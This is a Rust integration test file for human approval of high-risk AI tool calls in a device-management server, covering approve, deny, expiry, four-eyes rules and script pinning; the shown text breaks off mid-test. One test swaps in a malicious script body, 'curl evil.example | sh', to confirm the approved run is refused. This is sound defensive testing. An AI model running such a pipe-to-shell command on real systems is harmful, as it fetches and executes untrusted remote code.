//! Step-up approvals through the whole pipeline: a Tier 3 MCP call waits for a person, who
//! approves (it runs once), denies, lets it expire, or reports it (the key is revoked); four-eyes
//! refuses self-approval; a changed definition refuses; a decision cannot be made twice; the
//! pending answer and `get_approval_status`; the webhook; the wait's circuit breaker. A waiting
//! call that is cancelled, or whose client goes away, withdraws its request; what can be refused
//! before a person is asked is refused first; a run is pinned to the script that was approved;
//! a revoked or disabled requester's request is void; an approved call's progress reaches its
//! caller.
#![allow(clippy::unwrap_used)] // test code: a panic is the failure report

mod common;

use std::{sync::Arc, time::Duration};

use breeze_agent_proto::{AgentFrame, CommandOutcome, CommandProgress, CommandResult, ServerFrame};
use breeze_auth::CreateEnrollmentKey;
use futures::{SinkExt, StreamExt};
use http_body_util::BodyExt;
use tokio_tungstenite::tungstenite::{self, client::IntoClientRequest};
use tower::ServiceExt;

use axum::{
    body::Body,
    http::{Request, StatusCode, header},
};
use breeze_auth::CreateApiKey;
use breeze_core::{Scope, ScopeSet};
use breeze_limits::MemoryLimiter;
use breeze_store::{NewUser, testing::Ctx};
use common::{World, audit, build, err_msg, send, world};
use serde_json::{Value, json};

async fn exec_key(w: &World) -> String {
    let (secret, _) = w
        .state
        .auth
        .create_api_key(
            CreateApiKey {
                org_id: w.org_a,
                user_id: w.admin,
                name: "exec".into(),
                scopes: ScopeSet::new([Scope::AiRead, Scope::AiWrite, Scope::AiExecute]),
                expires_at: None,
            },
            audit("api_key.create"),
        )
        .await
        .unwrap();
    secret.expose().to_owned()
}

fn tools_call(key: &str, tool: &str, args: Value) -> Request<Body> {
    Request::post("/mcp")
        .header("content-type", "application/json")
        .header("accept", "application/json, text/event-stream")
        .header("x-api-key", key)
        .body(Body::from(
            json!({ "jsonrpc": "2.0", "id": 7, "method": "tools/call",
                    "params": { "name": tool, "arguments": args, "_meta": { "progressToken": "p1" } } })
            .to_string(),
        ))
        .unwrap()
}

/// A Tier 3 `manage_groups create` call, left waiting for its approval in the background.
fn create_group_waiting(
    w: &World,
    key: &str,
    name: &str,
) -> tokio::task::JoinHandle<common::Reply> {
    let (app, req) = (
        w.app.clone(),
        tools_call(
            key,
            "manage_groups",
            json!({ "action": "create", "name": name }),
        ),
    );
    tokio::spawn(async move { send(&app, req).await })
}

async fn login(app: &axum::Router, email: &str) -> String {
    let r = send(
        app,
        Request::post("/api/v1/auth/login")
            .header("content-type", "application/json")
            .body(Body::from(
                json!({ "email": email, "password": common::PASSWORD }).to_string(),
            ))
            .unwrap(),
    )
    .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let cookie = r.headers.get(header::SET_COOKIE).unwrap().to_str().unwrap();
    cookie.split(';').next().unwrap().to_owned()
}

fn decide(cookie: &str, id: &str, decision: &str, reason: Option<&str>) -> Request<Body> {
    let body = reason.map_or(String::new(), |r| json!({ "reason": r }).to_string());
    Request::post(format!("/api/v1/approvals/{id}/{decision}"))
        .header("content-type", "application/json")
        .header(header::COOKIE, cookie)
        .body(Body::from(body))
        .unwrap()
}

/// Waits until the organization has a pending request; returns its id.
async fn pending_id(w: &World) -> String {
    for _ in 0..200 {
        if let Some(r) = w
            .store
            .org(w.org_a)
            .approvals()
            .list_approvals(true, 10)
            .await
            .unwrap()
            .first()
        {
            return r.id.to_string();
        }
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    panic!("no approval request appeared")
}

async fn group_count(w: &World, name: &str) -> usize {
    w.store
        .org(w.org_a)
        .tenancy()
        .list_groups()
        .await
        .unwrap()
        .iter()
        .filter(|g| g.name == name)
        .count()
}

/// The JSON-RPC result of a reply that may be SSE-framed; the progress messages seen.
fn result_of(reply: &common::Reply) -> (Value, Vec<String>) {
    if let Value::String(text) = &reply.body {
        let mut result = Value::Null;
        let mut progress = Vec::new();
        for line in text.lines().filter_map(|l| l.strip_prefix("data: ")) {
            let v: Value = serde_json::from_str(line).unwrap();
            if v["method"] == "notifications/progress" {
                progress.push(
                    v["params"]["message"]
                        .as_str()
                        .unwrap_or_default()
                        .to_owned(),
                );
            } else if v.get("result").is_some() {
                result = v["result"].clone();
            }
        }
        (result, progress)
    } else {
        (reply.body["result"].clone(), Vec::new())
    }
}

async fn approve_runs_once_and_only_once(cx: Ctx) {
    let w = world(&cx).await;
    let key = exec_key(&w).await;
    let call = create_group_waiting(&w, &key, "Kiosks");
    let id = pending_id(&w).await;
    assert_eq!(
        group_count(&w, "Kiosks").await,
        0,
        "nothing runs before approval"
    );
    let record = w
        .store
        .org(w.org_a)
        .approvals()
        .get_approval(id.parse().unwrap())
        .await
        .unwrap();
    assert_eq!(record.tool, "manage_groups");
    assert_eq!(record.tier, 3);
    assert!(
        record.description.contains("Manage device groups — create"),
        "{}",
        record.description
    );
    assert_eq!(record.mode, "supervised");

    // An API key cannot decide, not even its own request.
    let r = send(
        &w.app,
        Request::post(format!("/api/v1/approvals/{id}/approve"))
            .header("x-api-key", &key)
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);

    // A person sees it in their list and approves it; the waiting call returns the result.
    let cookie = login(&w.app, "admin@p.test").await;
    let r = send(
        &w.app,
        Request::get("/api/v1/approvals")
            .header(header::COOKIE, &cookie)
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert_eq!(r.body["approvals"][0]["id"], id.as_str());
    let r = send(&w.app, decide(&cookie, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let reply = call.await.unwrap();
    let (result, progress) = result_of(&reply);
    assert_ne!(result["isError"], true, "{}", reply.body);
    assert_eq!(result["structuredContent"]["group"]["name"], "Kiosks");
    assert!(
        progress
            .iter()
            .any(|m| m.contains("Waiting for a person to approve")),
        "progress told the client it waits: {progress:?}"
    );
    assert_eq!(group_count(&w, "Kiosks").await, 1);

    // It cannot be used twice: a second decision is a conflict, a second claim loses.
    let r = send(&w.app, decide(&cookie, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::CONFLICT);
    assert!(err_msg(&r).contains("already completed"), "{}", err_msg(&r));
    assert!(!w.store.claim_approval(id.parse().unwrap()).await.unwrap());
    assert_eq!(group_count(&w, "Kiosks").await, 1);
}

async fn deny_expire_and_report(cx: Ctx) {
    let w = world(&cx).await;
    let key = exec_key(&w).await;
    let cookie = login(&w.app, "admin@p.test").await;

    // Denied: a tool error with the recorded reason.
    let call = create_group_waiting(&w, &key, "A");
    let id = pending_id(&w).await;
    let r = send(
        &w.app,
        decide(&cookie, &id, "deny", Some("not during business hours")),
    )
    .await;
    assert_eq!(r.body["status"], "denied");
    let (result, _) = result_of(&call.await.unwrap());
    assert_eq!(result["isError"], true);
    let msg = result["structuredContent"]["error"]["message"]
        .as_str()
        .unwrap();
    assert!(
        msg.contains("was denied: not during business hours"),
        "{msg}"
    );
    assert_eq!(group_count(&w, "A").await, 0);

    // Expired: nobody decided within 5 minutes.
    let call = create_group_waiting(&w, &key, "B");
    let id = pending_id(&w).await;
    cx.clock.advance(chrono::Duration::minutes(6));
    let (result, _) = result_of(&call.await.unwrap());
    let msg = result["structuredContent"]["error"]["message"]
        .as_str()
        .unwrap();
    assert!(msg.contains("expired before anyone decided"), "{msg}");
    let r = send(&w.app, decide(&cookie, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::CONFLICT, "too late to approve");
    assert_eq!(group_count(&w, "B").await, 0);

    // Reported: refused, and the requesting key is revoked at once.
    let call = create_group_waiting(&w, &key, "C");
    let id = pending_id(&w).await;
    let r = send(
        &w.app,
        decide(&cookie, &id, "report", Some("I did not ask for this")),
    )
    .await;
    assert_eq!(r.body["status"], "reported");
    let (result, _) = result_of(&call.await.unwrap());
    let msg = result["structuredContent"]["error"]["message"]
        .as_str()
        .unwrap();
    assert!(msg.contains("API key has been revoked"), "{msg}");
    let r = send(&w.app, tools_call(&key, "query_devices", json!({}))).await;
    assert_eq!(
        r.status,
        StatusCode::UNAUTHORIZED,
        "the reported key is dead"
    );
}

async fn four_eyes_and_permissions(cx: Ctx) {
    let w = world(&cx).await;
    let key = exec_key(&w).await;
    w.store
        .org(w.org_a)
        .approvals()
        .set_approval_policy("manage_groups.create", "four_eyes", audit("policy"))
        .await
        .unwrap();
    // A second administrator, and the Read Only viewer.
    let s = &w.store;
    let partner = s.find_partner("p").await.unwrap();
    let ops = s
        .create_user(
            NewUser {
                partner_id: partner.id,
                org_id: None,
                email: "ops@p.test".into(),
                name: "Ops".into(),
                password_hash: breeze_auth::password::hash(common::PASSWORD).unwrap(),
            },
            audit("u"),
        )
        .await
        .unwrap();
    let admin_role = s.find_role(partner.id, "Administrator").await.unwrap();
    s.assign_role(ops.id, w.org_a, admin_role.id, audit("r"))
        .await
        .unwrap();

    let call = create_group_waiting(&w, &key, "Lab");
    let id = pending_id(&w).await;
    let record = s
        .org(w.org_a)
        .approvals()
        .get_approval(id.parse().unwrap())
        .await
        .unwrap();
    assert_eq!(record.mode, "four_eyes");

    let own = login(&w.app, "admin@p.test").await;
    let r = send(&w.app, decide(&own, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert!(err_msg(&r).contains("four-eyes"), "{}", err_msg(&r));
    let viewer = login(&w.app, "viewer@p.test").await;
    let r = send(&w.app, decide(&viewer, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert!(err_msg(&r).contains("devices.write"), "{}", err_msg(&r));
    let other = login(&w.app, "ops@p.test").await;
    let r = send(&w.app, decide(&other, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let (result, _) = result_of(&call.await.unwrap());
    assert_ne!(result["isError"], true, "{result}");
    assert_eq!(group_count(&w, "Lab").await, 1);
    // Other tools stay supervised.
    assert_eq!(
        s.org(w.org_a)
            .approvals()
            .approval_mode("manage_groups", Some("delete"))
            .await
            .unwrap(),
        "supervised"
    );
}

async fn pending_answers_status_tool_and_pinning(cx: Ctx) {
    let w = world(&cx).await;
    let key = exec_key(&w).await;
    // A webhook receiver, like a phone notifier.
    let (hook_tx, mut hook_rx) = tokio::sync::mpsc::unbounded_channel::<Value>();
    let hook = axum::Router::new().route(
        "/hook",
        axum::routing::post(move |axum::Json(v): axum::Json<Value>| {
            let tx = hook_tx.clone();
            async move {
                let _ = tx.send(v);
                StatusCode::NO_CONTENT
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let hook_url = format!("http://{}/hook", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, hook).await });

    let app = build(
        &w,
        |c| {
            c.approvals.wait = Duration::ZERO;
            c.approvals.webhook_url = Some(hook_url.clone());
        },
        Arc::new(MemoryLimiter::new()),
    );
    // Clients that cannot hold a call get "pending" and the id at once.
    let r = send(
        &app,
        tools_call(
            &key,
            "manage_groups",
            json!({ "action": "create", "name": "Later" }),
        ),
    )
    .await;
    let (result, _) = result_of(&r);
    let out = &result["structuredContent"];
    assert_eq!(out["status"], "pending_approval", "{result}");
    let id = out["approvalId"].as_str().unwrap().to_owned();
    let hook = tokio::time::timeout(Duration::from_secs(5), hook_rx.recv())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(hook["id"], id.as_str());
    assert_eq!(hook["tool"], "manage_groups");
    assert!(
        hook["approveUrl"]
            .as_str()
            .unwrap()
            .ends_with(&format!("/api/v1/approvals/{id}/approve"))
    );
    assert!(
        hook["pageUrl"]
            .as_str()
            .unwrap()
            .ends_with(&format!("/approvals/{id}"))
    );

    let status = |k: &str| tools_call(k, "get_approval_status", json!({ "approvalId": id }));
    let (result, _) = result_of(&send(&app, status(&key)).await);
    assert_eq!(result["structuredContent"]["status"], "pending");
    // Another key of the same organization cannot follow it.
    let (result, _) = result_of(&send(&app, status(&w.read)).await);
    assert_eq!(
        result["structuredContent"]["error"]["message"],
        "Approval request not found or access denied"
    );

    // Approved with nobody waiting: the resumer runs it once; the status tool has the result.
    let stop = tokio_util::sync::CancellationToken::new();
    w.state.pipeline.spawn_resumer(stop.clone());
    let cookie = login(&app, "admin@p.test").await;
    let r = send(&app, decide(&cookie, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::OK);
    cx.clock.advance(chrono::Duration::seconds(4));
    let mut done = Value::Null;
    for _ in 0..100 {
        let (result, _) = result_of(&send(&app, status(&key)).await);
        if result["structuredContent"]["status"] == "completed" {
            done = result["structuredContent"].clone();
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(done["result"]["group"]["name"], "Later", "{done}");
    assert_eq!(group_count(&w, "Later").await, 1);

    // A request whose tool definition changed after approval is refused, not run.
    let r = send(
        &app,
        tools_call(
            &key,
            "manage_groups",
            json!({ "action": "create", "name": "Pinned" }),
        ),
    )
    .await;
    let id2 = result_of(&r).0["structuredContent"]["approvalId"]
        .as_str()
        .unwrap()
        .to_owned();
    w.store
        .raw_execute(
            "UPDATE approval_requests SET definition_hash = arguments_hash \
             WHERE tool = 'manage_groups' AND status = 'pending'",
        )
        .await
        .unwrap();
    let r = send(&app, decide(&cookie, &id2, "approve", None)).await;
    assert_eq!(r.status, StatusCode::OK);
    cx.clock.advance(chrono::Duration::seconds(4));
    let mut failed = Value::Null;
    for _ in 0..100 {
        let (result, _) = result_of(
            &send(
                &app,
                tools_call(&key, "get_approval_status", json!({ "approvalId": id2 })),
            )
            .await,
        );
        if result["structuredContent"]["status"] == "failed" {
            failed = result["structuredContent"].clone();
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert!(
        failed["result"]
            .to_string()
            .contains("changed after it was approved"),
        "{failed}"
    );
    assert_eq!(group_count(&w, "Pinned").await, 0);
    stop.cancel();
}

async fn the_wait_has_a_circuit_breaker(cx: Ctx) {
    let w = world(&cx).await;
    let key = exec_key(&w).await;
    let call = create_group_waiting(&w, &key, "X");
    pending_id(&w).await;
    w.store.close().await;
    let reply = tokio::time::timeout(Duration::from_secs(30), call)
        .await
        .unwrap()
        .unwrap();
    let (result, _) = result_of(&reply);
    let msg = result["structuredContent"]["error"]["message"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    assert!(
        msg.contains("the database failed 5 times in a row"),
        "{}",
        reply.body
    );
}

/// The JSON-RPC `initialize` of a Streamable HTTP session; returns the session id.
async fn open_session(app: &axum::Router, key: &str) -> String {
    let r = send(
        app,
        Request::post("/mcp")
            .header("content-type", "application/json")
            .header("accept", "application/json, text/event-stream")
            .header("x-api-key", key)
            .body(Body::from(
                json!({ "jsonrpc": "2.0", "id": 1, "method": "initialize",
                        "params": { "protocolVersion": "2025-06-18", "capabilities": {},
                                    "clientInfo": { "name": "t", "version": "1" } } })
                .to_string(),
            ))
            .unwrap(),
    )
    .await;
    r.headers
        .get("mcp-session-id")
        .unwrap()
        .to_str()
        .unwrap()
        .to_owned()
}

fn in_session(mut req: Request<Body>, session: &str) -> Request<Body> {
    req.headers_mut()
        .insert("mcp-session-id", session.parse().unwrap());
    req
}

/// Waits until request `id` has `status`; returns its record.
async fn status_becomes(w: &World, id: &str, status: &str) -> breeze_store::ApprovalRecord {
    let id = id.parse().unwrap();
    let mut last = None;
    for _ in 0..400 {
        let r = w
            .store
            .org(w.org_a)
            .approvals()
            .get_approval(id)
            .await
            .unwrap();
        if r.status.as_str() == status {
            return r;
        }
        last = Some(r);
        tokio::time::sleep(Duration::from_millis(25)).await;
    }
    panic!("approval {id} never became {status}: {last:?}")
}

/// A client cancels its waiting Tier 3 call (`notifications/cancelled`, as the TypeScript SDK
/// does at its 60 s timeout): the request is withdrawn, nobody can approve it any more, the
/// cancelled request gets no answer, and nothing runs. A client that simply goes away (its
/// connection closes) withdraws its waiting request the same way.
async fn cancelling_a_waiting_call_withdraws_its_request(cx: Ctx) {
    let w = world(&cx).await;
    let key = exec_key(&w).await;
    let cookie = login(&w.app, "admin@p.test").await;
    let session = open_session(&w.app, &key).await;
    let (app, req) = (
        w.app.clone(),
        in_session(
            tools_call(
                &key,
                "manage_groups",
                json!({ "action": "create", "name": "Cancelled" }),
            ),
            &session,
        ),
    );
    let call = tokio::spawn(async move { send(&app, req).await });
    let id = pending_id(&w).await;
    let cancel = Request::post("/mcp")
        .header("content-type", "application/json")
        .header("accept", "application/json, text/event-stream")
        .header("x-api-key", &key)
        .body(Body::from(
            json!({ "jsonrpc": "2.0", "method": "notifications/cancelled",
                    "params": { "requestId": 7, "reason": "Request timed out" } })
            .to_string(),
        ))
        .unwrap();
    let r = send(&w.app, in_session(cancel, &session)).await;
    assert_eq!(r.status, StatusCode::ACCEPTED);
    let reply = tokio::time::timeout(Duration::from_secs(30), call)
        .await
        .expect("the cancelled call ends")
        .unwrap();
    let withdrawn = status_becomes(&w, &id, "withdrawn").await;
    assert!(
        withdrawn.reason.unwrap().contains("cancelled"),
        "the reason says why"
    );
    let (result, _) = result_of(&reply);
    assert_eq!(
        result,
        Value::Null,
        "a cancelled request is not answered: {}",
        reply.body
    );
    let r = send(&w.app, decide(&cookie, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.body);
    assert!(err_msg(&r).contains("already withdrawn"), "{}", err_msg(&r));
    assert_eq!(group_count(&w, "Cancelled").await, 0);

    // The connection closes while the call waits (no session, no cancel message).
    let call = create_group_waiting(&w, &key, "Gone");
    let id = pending_id(&w).await;
    call.abort();
    let _ = call.await;
    status_becomes(&w, &id, "withdrawn").await;
    let r = send(&w.app, decide(&cookie, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.body);
    assert_eq!(group_count(&w, "Gone").await, 0);
}

/// Once a call has answered `pending_approval`, its request no longer depends on the
/// connection: the client is gone, a person approves, the resumer runs it, and the result is
/// there for `get_approval_status`. (The default wait answers before the TypeScript SDK's 60 s
/// request timeout.)
async fn a_pending_answer_detaches_the_request(cx: Ctx) {
    assert!(
        breeze_pipeline::approvals::ApprovalConfig::default().wait < Duration::from_secs(60),
        "pending is answered before common client timeouts"
    );
    let w = world(&cx).await;
    let key = exec_key(&w).await;
    let app = build(
        &w,
        |c| c.approvals.wait = Duration::ZERO,
        Arc::new(MemoryLimiter::new()),
    );
    let r = send(
        &app,
        tools_call(
            &key,
            "manage_groups",
            json!({ "action": "create", "name": "Detached" }),
        ),
    )
    .await;
    let (result, _) = result_of(&r);
    assert_eq!(result["structuredContent"]["status"], "pending_approval");
    let id = result["structuredContent"]["approvalId"]
        .as_str()
        .unwrap()
        .to_owned();
    // The answered call's connection is long gone; the request stays pending for a person.
    assert_eq!(
        w.store
            .org(w.org_a)
            .approvals()
            .get_approval(id.parse().unwrap())
            .await
            .unwrap()
            .status
            .as_str(),
        "pending"
    );
    let stop = tokio_util::sync::CancellationToken::new();
    w.state.pipeline.spawn_resumer(stop.clone());
    let cookie = login(&app, "admin@p.test").await;
    let r = send(&app, decide(&cookie, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    cx.clock.advance(chrono::Duration::seconds(4));
    status_becomes(&w, &id, "completed").await;
    assert_eq!(group_count(&w, "Detached").await, 1);
    stop.cancel();
}

/// What can be checked before a person is asked is checked first, with the error the call
/// gives without approval: an unknown device, another organization's device, an offline
/// device, a missing script, a bad argument. No approval request is created for any of them.
async fn calls_that_cannot_run_are_refused_before_anyone_is_asked(cx: Ctx) {
    let w = world(&cx).await;
    let key = exec_key(&w).await;
    let message = |r: &common::Reply| {
        let (result, _) = result_of(r);
        assert_eq!(result["isError"], true, "{result}");
        result["structuredContent"]["error"]["message"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    // The same device checks as a call without approval (Tier 2 list_processes).
    let tier2 = |device: &str| {
        tools_call(
            &key,
            "execute_command",
            json!({ "deviceId": device, "commandType": "list_processes" }),
        )
    };
    let tier3 = |device: &str| {
        tools_call(
            &key,
            "execute_command",
            json!({ "deviceId": device, "commandType": "kill_process", "payload": { "pid": 1 } }),
        )
    };
    let unknown = uuid::Uuid::now_v7().to_string();
    let foreign = w.b_device.clone();
    for device in [&unknown, &foreign] {
        let direct = message(&send(&w.app, tier2(device)).await);
        assert_eq!(direct, "Device not found or access denied");
        assert_eq!(message(&send(&w.app, tier3(device)).await), direct);
    }
    w.store
        .raw_execute("UPDATE devices SET status = 'offline'")
        .await
        .unwrap();
    let direct = message(&send(&w.app, tier2(&w.a_device)).await);
    assert!(direct.contains("is not online"), "{direct}");
    assert_eq!(message(&send(&w.app, tier3(&w.a_device)).await), direct);
    let r = send(
        &w.app,
        tools_call(
            &key,
            "network_discovery",
            json!({ "deviceId": unknown, "subnet": "10.0.0.0/8" }),
        ),
    )
    .await;
    assert!(message(&r).contains("too large"), "{}", message(&r));
    let r = send(
        &w.app,
        tools_call(
            &key,
            "run_script",
            json!({ "scriptId": "no-such-script", "deviceIds": [w.a_device] }),
        ),
    )
    .await;
    assert_eq!(message(&r), "Script not found or access denied");
    assert!(
        w.store
            .org(w.org_a)
            .approvals()
            .list_approvals(false, 10)
            .await
            .unwrap()
            .is_empty(),
        "nobody was asked to approve a call that cannot run"
    );
}

fn script(name: &str, body: &str) -> breeze_store::NewScript {
    breeze_store::NewScript {
        name: name.into(),
        description: String::new(),
        language: "bash".into(),
        category: "maintenance".into(),
        body: body.into(),
        parameters: vec![breeze_store::ScriptParameter {
            name: "days".into(),
            description: String::new(),
            required: false,
            default: Some("7".into()),
        }],
        created_by: "test".into(),
    }
}

/// A `run_script` approval shows and pins the script as it was asked for; replacing the script
/// (removed and added under the same name) or editing its body before approval makes the run
/// refuse, and nothing reaches the device.
async fn an_approval_pins_the_script_it_runs(cx: Ctx) {
    let w = world(&cx).await;
    let key = exec_key(&w).await;
    let cookie = login(&w.app, "admin@p.test").await;
    let org = w.store.org(w.org_a);
    let original = org
        .scripts()
        .create_script(script("cleanup", "rm -rf /tmp/cache"), audit("s"))
        .await
        .unwrap();
    let run = |w: &World| {
        let (app, req) = (
            w.app.clone(),
            tools_call(
                &key,
                "run_script",
                json!({ "scriptId": "cleanup", "deviceIds": [w.a_device] }),
            ),
        );
        tokio::spawn(async move { send(&app, req).await })
    };

    let call = run(&w);
    let id = pending_id(&w).await;
    let record = org
        .approvals()
        .get_approval(id.parse().unwrap())
        .await
        .unwrap();
    let pinned = &record.pinned.as_ref().unwrap()["script"];
    assert_eq!(pinned["name"], "cleanup");
    assert_eq!(pinned["language"], "bash");
    assert_eq!(pinned["body"], "rm -rf /tmp/cache");
    assert_eq!(pinned["parameters"][0]["name"], "days");
    let sha = pinned["bodySha256"].as_str().unwrap();
    assert_eq!(sha.len(), 64);
    assert!(
        record
            .description
            .contains("script cleanup (bash, body sha256"),
        "{}",
        record.description
    );
    // The approver sees it through REST too.
    let r = send(
        &w.app,
        Request::get(format!("/api/v1/approvals/{id}"))
            .header(header::COOKIE, &cookie)
            .body(Body::empty())
            .unwrap(),
    )
    .await;
    assert_eq!(
        r.body
            .pointer("/pinned/script/body")
            .or(r.body.pointer("/approval/pinned/script/body")),
        Some(&json!("rm -rf /tmp/cache")),
        "{}",
        r.body
    );

    // Replaced under the same name before anyone approved.
    org.scripts()
        .delete_script(original.id, audit("s"))
        .await
        .unwrap();
    org.scripts()
        .create_script(script("cleanup", "curl evil.example | sh"), audit("s"))
        .await
        .unwrap();
    let r = send(&w.app, decide(&cookie, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let (result, _) = result_of(&call.await.unwrap());
    assert_eq!(result["isError"], true, "{result}");
    let msg = result["structuredContent"]["error"]["message"]
        .as_str()
        .unwrap();
    assert!(msg.contains("changed after it was approved"), "{msg}");
    assert_eq!(status_becomes(&w, &id, "failed").await.tool, "run_script");

    // Edited in place.
    let call = run(&w);
    let id = pending_id(&w).await;
    w.store
        .raw_execute("UPDATE scripts SET body = 'echo edited' WHERE name = 'cleanup'")
        .await
        .unwrap();
    let r = send(&w.app, decide(&cookie, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let (result, _) = result_of(&call.await.unwrap());
    let msg = result["structuredContent"]["error"]["message"]
        .as_str()
        .unwrap();
    assert!(msg.contains("changed after it was approved"), "{msg}");
    let device = w.a_device.parse().unwrap();
    assert!(
        org.commands()
            .list_commands(device, 10)
            .await
            .unwrap()
            .is_empty(),
        "nothing reached the device"
    );
}

/// A request whose API key was revoked, or whose user was disabled, after it was made is void:
/// approving it runs nothing.
async fn a_revoked_or_disabled_requester_voids_the_request(cx: Ctx) {
    let w = world(&cx).await;
    let cookie = login(&w.app, "admin@p.test").await;
    let key = exec_key(&w).await;
    let call = create_group_waiting(&w, &key, "Revoked");
    let id = pending_id(&w).await;
    let record = w
        .store
        .org(w.org_a)
        .approvals()
        .get_approval(id.parse().unwrap())
        .await
        .unwrap();
    w.store
        .org(w.org_a)
        .api_keys()
        .revoke_api_key(record.api_key_id.unwrap(), audit("k"))
        .await
        .unwrap();
    let r = send(&w.app, decide(&cookie, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let (result, _) = result_of(&call.await.unwrap());
    let msg = result["structuredContent"]["error"]["message"]
        .as_str()
        .unwrap();
    assert!(
        msg.contains("is void: the requesting API key was revoked"),
        "{msg}"
    );
    assert_eq!(group_count(&w, "Revoked").await, 0);
    assert_eq!(
        status_becomes(&w, &id, "failed").await.status.as_str(),
        "failed"
    );

    // A second person's key; that person is disabled while the request waits.
    let s = &w.store;
    let partner = s.find_partner("p").await.unwrap();
    let ops = s
        .create_user(
            NewUser {
                partner_id: partner.id,
                org_id: None,
                email: "ops@p.test".into(),
                name: "Ops".into(),
                password_hash: breeze_auth::password::hash(common::PASSWORD).unwrap(),
            },
            audit("u"),
        )
        .await
        .unwrap();
    let admin_role = s.find_role(partner.id, "Administrator").await.unwrap();
    s.assign_role(ops.id, w.org_a, admin_role.id, audit("r"))
        .await
        .unwrap();
    let (secret, _) = w
        .state
        .auth
        .create_api_key(
            CreateApiKey {
                org_id: w.org_a,
                user_id: ops.id,
                name: "ops".into(),
                scopes: ScopeSet::new([Scope::AiRead, Scope::AiWrite, Scope::AiExecute]),
                expires_at: None,
            },
            audit("api_key.create"),
        )
        .await
        .unwrap();
    let call = create_group_waiting(&w, secret.expose(), "Disabled");
    let id = pending_id(&w).await;
    s.raw_execute("UPDATE users SET disabled = TRUE WHERE email = 'ops@p.test'")
        .await
        .unwrap();
    let r = send(&w.app, decide(&cookie, &id, "approve", None)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.body);
    let (result, _) = result_of(&call.await.unwrap());
    let msg = result["structuredContent"]["error"]["message"]
        .as_str()
        .unwrap();
    assert!(
        msg.contains("is void: the requesting user is disabled"),
        "{msg}"
    );
    assert_eq!(group_count(&w, "Disabled").await, 0);
}

type Socket =
    tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>;

async fn next_frame(ws: &mut Socket) -> ServerFrame {
    loop {
        let msg = tokio::time::timeout(Duration::from_secs(10), ws.next())
            .await
            .expect("a frame within 10 s")
            .unwrap()
            .unwrap();
        if let tungstenite::Message::Text(t) = msg {
            return serde_json::from_str(t.as_str()).unwrap();
        }
    }
}

async fn send_frame(ws: &mut Socket, frame: &AgentFrame) {
    ws.send(tungstenite::Message::Text(
        serde_json::to_string(frame).unwrap().into(),
    ))
    .await
    .unwrap();
}

/// An agent enrolled in organization A, connected over a real WebSocket; its device id.
async fn connected_agent(w: &World) -> (String, Socket) {
    let site = w.store.org(w.org_a).tenancy().list_sites().await.unwrap()[0].id;
    let (secret, _) = w
        .state
        .auth
        .create_enrollment_key(
            CreateEnrollmentKey {
                org_id: w.org_a,
                site_id: site,
                name: "rollout".into(),
                max_uses: None,
                expires_at: w.state.clock.now() + chrono::Duration::hours(1),
                created_by: "test".into(),
            },
            audit("enrollment_key.create"),
        )
        .await
        .unwrap();
    let r = send(
        &w.app,
        Request::post("/api/v1/agents/enroll")
            .header("content-type", "application/json")
            .body(Body::from(
                json!({
                    "enrollmentKey": secret.expose(), "hostname": "scanner", "machineId": "m-1",
                    "os": { "family": "linux", "name": "Debian GNU/Linux", "version": "12",
                            "kernel": "6.1", "arch": "x86_64" },
                    "agentVersion": "0.1.0",
                })
                .to_string(),
            ))
            .unwrap(),
    )
    .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.body);
    let device = r.body["deviceId"].as_str().unwrap().to_owned();
    let token = r.body["token"].as_str().unwrap().to_owned();
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let breeze = breeze_server::Breeze::new(w.state.clone());
    tokio::spawn(breeze_server::serve(
        listener,
        breeze,
        std::future::pending(),
    ));
    let mut req = format!("ws://{addr}/api/v1/agents/ws")
        .into_client_request()
        .unwrap();
    req.headers_mut()
        .insert("authorization", format!("Bearer {token}").parse().unwrap());
    let (mut ws, _) = tokio_tungstenite::connect_async(req).await.unwrap();
    let ServerFrame::Welcome { .. } = next_frame(&mut ws).await else {
        panic!("the first frame is the welcome")
    };
    let ServerFrame::Policy(_) = next_frame(&mut ws).await else {
        panic!("the configuration policy follows the welcome")
    };
    (device, ws)
}

/// An approved `network_discovery` (always Tier 3) runs with its caller's progress channel: the
/// agent's progress reaches the client while the scan runs, before the result.
async fn progress_of_an_approved_call_reaches_its_caller(cx: Ctx) {
    let w = world(&cx).await;
    let key = exec_key(&w).await;
    let (device, mut ws) = connected_agent(&w).await;
    // The call's SSE body, chunk by chunk as the server sends it.
    let (chunks_tx, mut chunks) = tokio::sync::mpsc::unbounded_channel::<String>();
    let (app, req) = (
        w.app.clone(),
        tools_call(&key, "network_discovery", json!({ "deviceId": device })),
    );
    tokio::spawn(async move {
